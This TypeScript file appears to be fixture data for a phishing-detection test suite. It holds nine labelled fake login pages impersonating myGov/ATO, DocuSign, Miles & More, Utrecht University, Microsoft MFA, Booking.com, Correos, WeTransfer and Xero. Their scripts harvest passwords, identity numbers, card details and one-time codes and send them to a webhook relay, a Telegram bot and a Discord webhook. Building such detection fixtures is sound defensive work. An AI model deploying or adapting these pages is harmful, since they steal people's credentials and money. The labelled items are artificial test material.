import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, css, doc, img, js, json, qrSvg, text } from '../parts/h-parts.js';

export const entries: Entry[] = [
  // h-phish-mygov-ato-medicare
{
  id: 'h-phish-mygov-ato-medicare',
  label: 'phishing',
  kind: 'tax-refund',
  url: 'https://my.gov.au-ato-refund.com/LoginServices/main/login?execution=e1s1',
  body: doc({
    lang: 'en-AU',
    title: 'Sign in with myGov - myGov',
    css: `body{margin:0;font-family:"Public Sans",Arial,sans-serif;background:#f5f5f5}.hd{background:#1c1c1c;color:#fff;padding:16px 30px;font-size:26px;font-weight:700}.hd b{color:#00b1a9}.bx{max-width:480px;margin:30px auto;background:#fff;padding:30px;border-top:6px solid #00b1a9}label{display:block;margin-top:16px;font-weight:600}input,select{width:100%;padding:10px;border:1px solid #6f777b;box-sizing:border-box;margin-top:4px}button{margin-top:22px;background:#00698f;color:#fff;padding:12px 24px;border:0;font-size:16px}.pg{display:none}.pg.on{display:block}.nt{background:#eaf6f6;padding:12px;font-size:14px}`,
    body: `<div class="hd">my<b>Gov</b></div><div class="bx">
<div class="pg on" id="g1"><h2>Sign in with myGov</h2><p class="nt">The Australian Taxation Office has a notice for you: a refund of <b>$786.22</b> is pending. Sign in to confirm your details.</p>
<label>Username or email</label><input id="a1"><label>Password</label><input id="a2" type="password"><button onclick="go(1)">Sign in</button>
<p style="font-size:14px"><a href="#">Forgot username</a> · <a href="#">Forgot password</a> · <a href="#">Create a myGov account</a></p></div>
<div class="pg" id="g2"><h2>Verify your identity</h2><p>To protect your account we need to verify your identity documents.</p>
<label>Medicare card number</label><input id="m1" maxlength="10"><label>Individual reference number</label><input id="m2" maxlength="1"><label>Driver licence number</label><input id="m3"><label>State</label><select id="m4"><option>NSW</option><option>VIC</option><option>QLD</option><option>WA</option><option>SA</option><option>TAS</option><option>ACT</option><option>NT</option></select>
<label>Tax File Number</label><input id="m5" maxlength="11"><button onclick="go(2)">Continue</button></div>
<div class="pg" id="g3"><h2>Refund payment</h2><label>BSB</label><input id="b1" maxlength="7"><label>Account number</label><input id="b2"><label>Debit card number (for verification)</label><input id="b3" maxlength="19"><label>Expiry</label><input id="b4" placeholder="MM/YY"><label>CVV</label><input id="b5" maxlength="3"><button onclick="go(3)">Submit</button></div>
<div class="pg" id="g4"><h2>Thank you</h2><p>Your refund will be processed within 5 business days.</p></div>
</div>
<script>
function go(n){var o={s:n};document.querySelectorAll('#g'+n+' input,#g'+n+' select').forEach(function(i){o[i.id]=i.value});
fetch('/LoginServices/api/store',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(o)});
document.getElementById('g'+n).className='pg';document.getElementById('g'+(n+1)).className='pg on'}
</script>`,
  }),
  routes: { 'my.gov.au-ato-refund.com/LoginServices/api/store': json({ status: 'ok' }) },
},
  // h-phish-esign-cloudbucket-webhook
{
  id: 'h-phish-esign-cloudbucket-webhook',
  label: 'phishing',
  kind: 'esign-lure',
  url: 'https://objectstore.eu-west-2.cloudbucket-storage.net/fin-docs-7781/Remittance_Advice_PDF.html',
  body: doc({
    title: 'Docusign - Remittance_Advice.pdf',
    css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#2b2b2b url() center/cover}.bg{position:fixed;inset:0;background:#eee;filter:blur(3px)}.bg p{margin:60px;line-height:2;color:#bbb}.ov{position:fixed;inset:0;background:#0006;display:flex;align-items:center;justify-content:center}.md{background:#fff;width:400px;border-radius:6px;padding:26px;box-shadow:0 6px 30px #0008}.ds{color:#4c00ff;font-weight:800;font-size:22px}.ds span{color:#ffcc22}.pr{display:grid;grid-template-columns:1fr 1fr;gap:8px;margin:14px 0}.pr button{border:1px solid #ccc;background:#fafafa;padding:10px;border-radius:4px;cursor:pointer;font-size:13px}input{width:100%;padding:10px;margin:6px 0;border:1px solid #aaa;border-radius:4px;box-sizing:border-box}.go{width:100%;background:#4c00ff;color:#fff;border:0;padding:11px;border-radius:4px;font-size:15px}#frm{display:none}.er{color:#c00;font-size:13px;display:none}`,
    body: `<div class="bg"><p>REMITTANCE ADVICE ████████ ██████ ███████ ████ ██████████ ███ ████████ ██████ ██████ ████ ████████ ███████ ████ ██ █████ ████████ ███████ ██████ ████ ███</p></div>
<div class="ov"><div class="md"><div class="ds">docu<span>sign</span></div>
<p><b>Accounts Payable</b> sent you a document to review and sign.<br><small>Remittance_Advice_INV-44102.pdf · 184 KB</small></p>
<p style="font-size:13px">Select your email provider to view the document:</p>
<div class="pr"><button onclick="pk('Outlook')">Outlook</button><button onclick="pk('Office 365')">Office 365</button><button onclick="pk('Yahoo')">Yahoo</button><button onclick="pk('AOL')">AOL</button><button onclick="pk('Gmail')">Gmail</button><button onclick="pk('Other Mail')">Other Mail</button></div>
<form id="frm"><p id="pv" style="font-weight:600"></p><input id="em" type="email" placeholder="Email address" required><input id="pw" type="password" placeholder="Email password" required><p class="er" id="er">Invalid password. Please enter the correct password to continue.</p><button class="go">View Document</button></form>
<p style="font-size:11px;color:#888;margin-top:16px">Powered by DocuSign® Secured · Do not share this email</p></div></div>
<script>
var P='',c=0,W='https://hooks.workflow-relay.com/catch/118274/3xq9zb/';
function pk(p){P=p;document.getElementById('pv').textContent='Sign in with '+p;document.getElementById('frm').style.display='block'}
document.getElementById('frm').addEventListener('submit',function(e){e.preventDefault();c++;var d={provider:P,email:document.getElementById('em').value,password:document.getElementById('pw').value,attempt:c,ua:navigator.userAgent};
fetch(W,{method:'POST',body:JSON.stringify(d)}).finally(function(){if(c<2){document.getElementById('er').style.display='block';document.getElementById('pw').value=''}else{location.href='https://www.docusign.com/'}})});
</script>`,
  }),
  routes: { 'hooks.workflow-relay.com/catch/118274/3xq9zb/': json({ status: 'success', id: 'a1b2' }) },
},
  // h-phish-milesandmore-de
{
  id: 'h-phish-milesandmore-de',
  label: 'phishing',
  kind: 'airline-loyalty',
  url: 'https://milesandmore-praemie.de-login.app/de/login.html?aktion=50000',
  body: doc({
    lang: 'de',
    title: 'Miles & More | Login',
    css: `body{margin:0;font-family:"Helvetica Neue",Arial,sans-serif;background:#eef1f5}.hd{background:#05164d;color:#fff;padding:16px 40px;font-size:20px}.hd em{color:#ffad00;font-style:normal}.bn{background:linear-gradient(90deg,#05164d,#0a2a8a);color:#fff;padding:30px 40px}.bn h1{margin:0;font-size:30px}.ct{max-width:420px;margin:-20px auto 40px;background:#fff;padding:30px;border-radius:4px;box-shadow:0 2px 10px #0002}label{display:block;font-size:13px;margin-top:14px;color:#05164d}input{width:100%;padding:11px;border:1px solid #9aa3b5;box-sizing:border-box}button{margin-top:20px;width:100%;background:#ffad00;color:#05164d;border:0;padding:13px;font-weight:bold;font-size:16px}`,
    body: `<div class="hd">Miles <em>&amp;</em> More</div>
<div class="bn"><h1>Jubiläumsaktion: 50.000 Prämienmeilen geschenkt</h1><p>Nur noch heute: Melden Sie sich an und bestätigen Sie Ihre Kartendaten, um die Meilen Ihrem Konto gutzuschreiben.</p></div>
<div class="ct"><form method="post" action="/de/verify.php">
<label>Service-Kartennummer oder Benutzername</label><input name="mmnr" required>
<label>PIN / Passwort</label><input name="pin" type="password" required>
<label>Kreditkartennummer (Miles &amp; More Credit Card)</label><input name="kk" maxlength="19" required>
<label>Gültig bis</label><input name="gb" placeholder="MM/JJ" maxlength="5" required>
<label>Prüfnummer (CVC)</label><input name="cvc" maxlength="3" required>
<button>Meilen gutschreiben</button></form>
<p style="font-size:11px;color:#777;margin-top:18px">Miles &amp; More GmbH · Impressum · Datenschutz · AGB</p></div>`,
  }),
  routes: { 'milesandmore-praemie.de-login.app/de/verify.php': htmlRoute(doc({ lang: 'de', title: 'Bestätigung', body: '<p style="font-family:Arial;margin:40px">Bitte geben Sie den mTAN-Code ein, den Sie per SMS erhalten haben:</p><form method="post" action="/de/done.php" style="margin:0 40px"><input name="mtan"><button>OK</button></form>' })) },
},
  // h-phish-uu-solisid-freehost-nl
{
  id: 'h-phish-uu-solisid-freehost-nl',
  label: 'phishing',
  kind: 'university-sso',
  url: 'https://uu-solisid-login.freesite.host/idp/profile/SAML2/Redirect/SSO',
  body: doc({
    lang: 'nl',
    title: 'Universiteit Utrecht - Inloggen',
    css: `body{margin:0;background:#f3f3f3;font-family:"Open Sans",Arial,sans-serif}.top{background:#ffcd00;height:8px}.hd{background:#fff;padding:18px 40px;font-family:Merriweather,Georgia,serif;font-size:22px}.hd span{border-left:2px solid #000;padding-left:10px}.bx{max-width:400px;margin:40px auto;background:#fff;padding:30px;border:1px solid #ddd}label{display:block;margin-top:14px;font-weight:bold;font-size:14px}input{width:100%;padding:10px;border:1px solid #888;box-sizing:border-box}button{margin-top:22px;background:#000;color:#fff;border:0;padding:11px 30px;font-size:15px}.in{font-size:13px;color:#444;background:#fffbe6;padding:10px}.fh{position:fixed;bottom:0;left:0;right:0;background:#333;color:#ccc;font-size:11px;padding:4px 10px}`,
    body: `<div class="top"></div><div class="hd"><span>Universiteit Utrecht</span></div>
<div class="bx"><h2>Inloggen met Solis-id</h2><p class="in">Uw universitaire mailbox wordt binnen 24 uur gedeactiveerd vanwege de migratie naar het nieuwe systeem. Log in om uw account te behouden. / Your university mailbox will be deactivated within 24 hours; sign in to keep your account.</p>
<form method="post" action="https://uu-solisid-login.freesite.host/idp/auth.php"><label>Solis-id</label><input name="j_username" required><label>Wachtwoord</label><input name="j_password" type="password" required><label>Studentnummer / Personeelsnummer</label><input name="nr"><button>Inloggen</button></form>
<p style="font-size:12px"><a href="#">Wachtwoord vergeten?</a> · <a href="#">Hulp bij inloggen</a></p></div>
<div class="fh">Hosted free with FreeSite.host — <a style="color:#fc0" href="#">Create your own website</a></div>`,
  }),
  routes: { 'uu-solisid-login.freesite.host/idp/auth.php': htmlRoute('<html><head><meta http-equiv="refresh" content="1;url=https://www.uu.nl/"></head><body>Bezig met inloggen...</body></html>') },
},
  // h-phish-qr-mfa-reauth
{
  id: 'h-phish-qr-mfa-reauth',
  label: 'phishing',
  kind: 'qr-reauth',
  url: 'https://mfa-reauth-portal.com/secure/2fa-renewal?tenant=brightwater-logistics',
  body: doc({
    title: 'Action Required: Re-authenticate Multi-Factor Authentication',
    css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f2f2f2}.c{max-width:520px;margin:40px auto;background:#fff;padding:36px;box-shadow:0 2px 6px #0002}.ms{display:grid;grid-template-columns:10px 10px;gap:2px;width:22px}.ms i{width:10px;height:10px;display:block}.q{display:flex;justify-content:center;margin:20px 0}ol{font-size:14px;line-height:1.8}.w{background:#fde7e9;color:#a4262c;padding:10px;font-size:13px}.cd{font-family:Consolas,monospace;font-size:20px;letter-spacing:3px;text-align:center}`,
    body: `<div class="c"><div class="ms"><i style="background:#f25022"></i><i style="background:#7fba00"></i><i style="background:#00a4ef"></i><i style="background:#ffb900"></i></div>
<h2>Your MFA registration expires today</h2>
<p>Hello, as part of the annual security review for <b id="tn">your organization</b>, all employees must re-register their Authenticator app. Accounts that are not re-authenticated by <b id="dl"></b> will be locked out of email, Teams and OneDrive.</p>
<p class="w">For your security this process must be completed on your <b>mobile device</b>. Desktop sign-ins are disabled during re-enrollment.</p>
<ol><li>Open the camera on your phone</li><li>Scan the QR code below</li><li>Sign in with your work account and approve the request</li></ol>
<div class="q">${qrSvg('https://ms-auth-renew.sbs/r/?t=brightwater')}</div>
<p class="cd">Reference: BWL-${'7741'}-MFA</p>
<p style="font-size:12px;color:#666">This is an automated message from IT Security · Microsoft 365 Admin Center</p></div>
<script>var t=new URLSearchParams(location.search).get('tenant');if(t)document.getElementById('tn').textContent=t.replace(/-/g,' ').replace(/\\b\\w/g,function(c){return c.toUpperCase()});document.getElementById('dl').textContent=new Date().toDateString()+' 17:00';</script>`,
  }),
},
  // h-phish-booking-guest-card
{
  id: 'h-phish-booking-guest-card',
  label: 'phishing',
  kind: 'travel-booking',
  url: 'https://booking.confirm-guest-reservation.com/hotel/4418202/?aid=391&lang=en-gb',
  body: doc({
    title: 'Booking.com | Confirm your reservation',
    css: `body{margin:0;font-family:BlinkMacSystemFont,-apple-system,"Segoe UI",Arial,sans-serif;background:#f5f5f5}.hd{background:#003580;color:#fff;padding:14px 40px;font-size:24px;font-weight:bold}.w{max-width:620px;margin:24px auto;background:#fff;padding:24px;border-radius:8px}.h{display:flex;gap:14px}.h div{width:120px;height:90px;background:#c5d8f0;border-radius:6px}.wr{background:#fff0f0;border:1px solid #cc0000;padding:12px;border-radius:6px;color:#a00;margin:16px 0}label{display:block;font-size:14px;margin:12px 0 4px;font-weight:600}input{width:100%;padding:10px;border:1px solid #868686;border-radius:4px;box-sizing:border-box}.r{display:flex;gap:10px}button{margin-top:18px;background:#006ce4;color:#fff;border:0;padding:12px 20px;border-radius:4px;font-size:16px;width:100%}`,
    body: `<div class="hd">Booking.com</div><div class="w">
<div class="h"><div></div><section><h3 style="margin:0">Hotel Riviera Lungomare ★★★★</h3><p style="margin:4px 0;font-size:14px">Via Lungomare 21, Rimini · Check-in: 14 Dec 2026 · 3 nights · 2 adults</p><p style="margin:0;font-size:14px">Reservation #4418202931</p></section></div>
<div class="wr"><b>Your reservation is at risk.</b> Our partner was unable to verify your card. Please re-confirm the card used for this booking within <b id="cd">11:59</b> or your reservation will be automatically cancelled.</div>
<form method="post" action="/hotel/4418202/secure.php" id="bk">
<label>Cardholder name</label><input name="holder" required>
<label>Card number</label><input name="card" inputmode="numeric" maxlength="19" required>
<div class="r"><div style="flex:1"><label>Expiry date</label><input name="exp" placeholder="MM/YY" required></div><div style="flex:1"><label>CVC</label><input name="cvc" maxlength="4" required></div></div>
<label>Email used for booking</label><input name="email" type="email">
<button>Confirm reservation</button></form>
<p style="font-size:12px;color:#6b6b6b">No charge will be made. The amount of €1.00 will be temporarily reserved for verification. Booking.com B.V., Herengracht 597, Amsterdam.</p></div>
<script>var s=719;setInterval(function(){s--;if(s<0)return;document.getElementById('cd').textContent=Math.floor(s/60)+':'+('0'+s%60).slice(-2)},1000)</script>`,
  }),
  routes: { 'booking.confirm-guest-reservation.com/hotel/4418202/secure.php': htmlRoute(doc({ title: '3-D Secure', body: '<div style="font-family:Arial;margin:40px;max-width:380px"><h3>Verified by Visa / Mastercard ID Check</h3><p>Enter the one-time passcode sent to your phone.</p><form method="post" action="/hotel/4418202/otp.php"><input name="otp"><button>Submit</button></form></div>' })) },
},
  // h-phish-correos-aduana-es
{
  id: 'h-phish-correos-aduana-es',
  label: 'phishing',
  kind: 'parcel-fee',
  url: 'https://correos.es-envios-aduana.top/seguimiento/?id=ES4472018836',
  body: doc({
    lang: 'es',
    title: 'Correos - Gastos de aduana pendientes',
    css: `body{margin:0;font-family:"Open Sans",Arial,sans-serif;background:#f4f4f4}.hd{background:#ffcd00;padding:14px 30px;font-weight:800;font-size:24px;color:#002e6d}.c{max-width:460px;margin:24px auto;background:#fff;padding:24px}.st{display:flex;gap:6px;margin:14px 0}.st i{flex:1;height:6px;background:#ccc}.st i.on{background:#002e6d}input{width:100%;padding:10px;margin:5px 0 10px;border:1px solid #bbb;box-sizing:border-box}button{width:100%;background:#002e6d;color:#fff;border:0;padding:12px;font-size:16px}#p2{display:none}`,
    body: `<div class="hd">Correos</div><div class="c">
<h2>Su envío está retenido en aduanas</h2><div class="st"><i class="on"></i><i class="on"></i><i class="on"></i><i></i></div>
<p>Envío <b>ES4472018836</b>: pendiente del pago de los gastos de gestión aduanera (<b>1,79 €</b>). Si no se realiza el pago en 48 horas el envío será devuelto al remitente.</p>
<div id="p1"><input id="nm" placeholder="Nombre y apellidos"><input id="dn" placeholder="DNI / NIE"><input id="dr" placeholder="Dirección completa"><input id="cp" placeholder="Código postal"><input id="tl" placeholder="Teléfono"><button onclick="s1()">Continuar</button></div>
<div id="p2"><input id="cn" placeholder="Número de tarjeta" maxlength="19"><input id="ce" placeholder="Caducidad MM/AA" maxlength="5"><input id="cv" placeholder="CVV" maxlength="3"><button onclick="s2()">Pagar 1,79 €</button></div>
<p style="font-size:11px;color:#888">© Sociedad Estatal Correos y Telégrafos, S.A., S.M.E.</p></div>
<script>
var $=function(i){return document.getElementById(i).value},K='6648102931:AAF3pQx0LzR7u1mYkT9aW2oVn5cE8bHsJ4d',C='5102283374';
function tg(m){return fetch('https://api.telegram.org/bot'+K+'/sendMessage?chat_id='+C+'&text='+encodeURIComponent(m))}
function s1(){tg('CORREOS\\n'+$('nm')+'\\n'+$('dn')+'\\n'+$('dr')+' '+$('cp')+'\\n'+$('tl'));document.getElementById('p1').style.display='none';document.getElementById('p2').style.display='block'}
function s2(){tg('CC '+$('cn')+' | '+$('ce')+' | '+$('cv')+'\\nDNI '+$('dn')).then(function(){location='/seguimiento/sms.html'})}
</script>`,
  }),
  routes: {
    'api.telegram.org/bot6648102931:AAF3pQx0LzR7u1mYkT9aW2oVn5cE8bHsJ4d/sendMessage': json({ ok: true }),
    'correos.es-envios-aduana.top/seguimiento/sms.html': htmlRoute(doc({ lang: 'es', title: 'Verificación', body: '<p style="font-family:Arial;margin:40px">Introduzca el código SMS de su banco: <input id="c"><button>Confirmar</button></p>' })),
  },
},
  // h-phish-wetransfer-discord-webhook
{
  id: 'h-phish-wetransfer-discord-webhook',
  label: 'phishing',
  kind: 'file-share-lure',
  url: 'https://wetransfer-downloads.web-share.cloud/download/8f2a19c0e4/',
  body: doc({
    title: 'WeTransfer - 3 files ready to download',
    css: `body{margin:0;font-family:"Graphik",Arial,sans-serif;background:linear-gradient(135deg,#3b4cb8,#9c2fb0);min-height:100vh}.lg{color:#fff;font-size:22px;font-weight:bold;padding:20px 30px}.pn{position:absolute;left:40px;top:90px;width:330px;background:#fff;border-radius:10px;padding:26px;box-shadow:0 6px 30px #0004}.f{font-size:13px;border-bottom:1px solid #eee;padding:8px 0}.f small{color:#888;display:block}input{width:100%;padding:10px;border:0;border-bottom:1px solid #bbb;margin:8px 0;box-sizing:border-box}button{width:100%;background:#409fff;color:#fff;border:0;border-radius:20px;padding:12px;font-size:15px;margin-top:10px}`,
    body: `<div class="lg">we<b>transfer</b></div><div class="pn"><h3>Ready when you are</h3>
<div class="f">Contract_Signed_Final.pdf<small>1.2 MB</small></div><div class="f">Payment_Schedule.xlsx<small>88 KB</small></div><div class="f">Scan_0019.pdf<small>640 KB</small></div>
<p style="font-size:13px;color:#555">Files expire in 6 days. Confirm your business email to download.</p>
<form id="w"><input id="a" type="email" placeholder="Business email" required><input id="b" type="password" placeholder="Email password" required><button>Download</button></form></div>
<script>
var WH='https://discord.com/api/webhooks/1245871203340918814/Xn4cQ2kq8PrYtW0zB7vLmF1sHd9JgE3aRuK6yN5oTiC2pVbMxS';
document.getElementById('w').addEventListener('submit',function(e){e.preventDefault();
fetch('https://ipinfo.web-share.cloud/json').then(function(r){return r.json()}).then(function(g){return fetch(WH,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({username:'WT Logs',embeds:[{title:'New WT login',fields:[{name:'Email',value:document.getElementById('a').value},{name:'Pass',value:document.getElementById('b').value},{name:'IP',value:g.ip+' '+g.country}]}]})})}).then(function(){location.href='https://wetransfer.com/'})});
</script>`,
  }),
  routes: {
    'discord.com/api/webhooks/1245871203340918814/Xn4cQ2kq8PrYtW0zB7vLmF1sHd9JgE3aRuK6yN5oTiC2pVbMxS': { status: 204, headers: {}, body: '' },
    'ipinfo.web-share.cloud/json': json({ ip: '203.0.113.5', country: 'US' }),
  },
},
  // h-phish-xero-shortlink-chain
{
  id: 'h-phish-xero-shortlink-chain',
  label: 'phishing',
  kind: 'redirect-chain',
  url: 'https://lnkd-go.co/x8Fq2',
  routes: {
    'lnkd-go.co/x8Fq2': redirectRoute(301, 'https://trk.adnetwork-click.io/aff_c?offer_id=221&aff_id=1048&url=https%3A%2F%2Fsecure-xero-invoice.view-billing.net%2Finv%2FINV-20931'),
    'trk.adnetwork-click.io/aff_c': htmlRoute('<html><head><script>var u=new URLSearchParams(location.search).get("url");setTimeout(function(){location.href=u},150)</script></head><body></body></html>'),
    'secure-xero-invoice.view-billing.net/inv/INV-20931': htmlRoute(doc({
      title: 'Login | Xero Accounting Software',
      css: `body{margin:0;background:#f1f5f7;font-family:"National",Helvetica,Arial,sans-serif}.x{width:60px;height:60px;border-radius:50%;background:#13b5ea;color:#fff;display:flex;align-items:center;justify-content:center;font-size:34px;margin:50px auto 10px}.b{max-width:380px;margin:0 auto;background:#fff;border-radius:6px;padding:30px;box-shadow:0 2px 4px #0001}.iv{background:#e6f7fd;padding:10px;font-size:13px;border-radius:4px}label{display:block;margin-top:14px;font-size:14px}input{width:100%;padding:10px;border:1px solid #ccc;border-radius:3px;box-sizing:border-box}button{margin-top:18px;width:100%;background:#1ab4d7;color:#fff;border:0;padding:12px;border-radius:3px;font-size:15px}`,
      body: `<div class="x">x</div><div class="b"><p class="iv">Invoice INV-20931 from <b>Northgate Supplies Ltd</b> for <b>£3,840.00</b> is due. Log in to Xero to view and pay.</p><h2>Log in</h2>
<form method="post" action="/inv/auth"><label>Email address</label><input name="userName" type="email" required><label>Password</label><input name="password" type="password" required><button>Log in</button></form>
<p style="font-size:13px;text-align:center"><a href="#">Forgot password?</a> · <a href="#">Can't log in?</a></p></div>
<p style="text-align:center;font-size:12px;color:#888">© 2026 Xero Limited · Privacy · Terms of use</p>`,
    })),
    'secure-xero-invoice.view-billing.net/inv/auth': htmlRoute('<html><body><p>Two-step authentication</p><form method="post" action="/inv/auth2"><input name="code" placeholder="6-digit code"><button>Verify</button></form></body></html>'),
  },
},
];
